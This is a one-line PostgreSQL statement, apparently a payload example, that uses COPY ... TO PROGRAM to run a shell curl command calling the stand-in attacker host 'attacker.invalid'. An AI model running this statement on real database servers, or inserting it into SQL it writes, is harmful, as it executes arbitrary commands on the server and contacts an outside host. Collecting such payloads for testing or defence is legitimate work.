COPY (SELECT 1) TO PROGRAM 'curl http://attacker.invalid'
